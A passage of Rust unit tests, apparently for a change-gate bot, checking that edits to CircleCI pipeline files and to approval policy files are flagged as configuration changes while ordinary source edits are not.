    fn the_orb_version_pinned_in_the_pipeline_is_watched() {
        let c = with_base("", &[(".circleci/config.yml", CONFIG)]);
        let p = landed(&c, 1, &[(".circleci/config.yml", &CONFIG.replace("1.4.0", "1.3.0"))]);
        let r = reasons(&c, vec![p], None);
        assert!(
            r.iter().any(|(code, d)| *code == PolicyCode::PipelineConfigChanged && d.contains(".circleci/config.yml")),
            "{r:?}"
        );
    }

    #[test]
    fn a_new_script_under_circleci_and_a_folder_are_watched() {
        let c = with_base("", &[(".circleci/config.yml", CONFIG), (".circleci/scripts/deploy.sh", "deploy\n")]);
        let p = landed(&c, 1, &[(".circleci/scripts/deploy.sh", "true\n"), (".circleci/skip.sh", "exit 0\n")]);
        let r = reasons(&c, vec![p], None);
        let detail = &r.iter().find(|(code, _)| *code == PolicyCode::PipelineConfigChanged).expect("watched").1;
        assert!(detail.contains(".circleci/scripts/") && detail.contains(".circleci/skip.sh"), "{detail}");
    }

    #[test]
    fn the_policy_paths_of_the_bots_policy_and_of_the_request_are_watched() {
        let c = with_base(
            "[approval]\npolicy_paths = [\"deploy/changegate.toml\"]\n",
            &[("deploy/changegate.toml", "[scan]\n"), ("ops/gate.toml", "[scan]\n"), ("src/app.txt", "a\n")],
        );
        let p1 = landed(&c, 1, &[("deploy/changegate.toml", "[scan]\nrequired = []\n")]);
        let p2 = landed(&c, 2, &[("ops/gate.toml", "[scan]\nrequired = []\n")]);
        let r = reasons(&c, vec![p1, p2], Some("ops/gate.toml"));
        let detail = &r.iter().find(|(code, _)| *code == PolicyCode::PolicyConfigChanged).expect("watched").1;
        assert!(detail.contains("deploy/changegate.toml") && detail.contains("ops/gate.toml"), "{detail}");
        assert!(!r.iter().any(|(code, _)| *code == PolicyCode::PipelineConfigChanged), "{r:?}");
    }

    #[test]
    fn an_ordinary_change_is_not_a_configuration_change() {
        let c = with_base("", &[(".circleci/config.yml", CONFIG), ("src/app.txt", "a\n")]);
        let p = landed(&c, 1, &[("src/app.txt", "b\n")]);
        let r = reasons(&c, vec![p], Some("ops/gate.toml"));
        assert!(
            !r.iter()
                .any(|(code, _)| matches!(code, PolicyCode::PipelineConfigChanged | PolicyCode::PolicyConfigChanged)),
            "{r:?}"
        );
    }
}
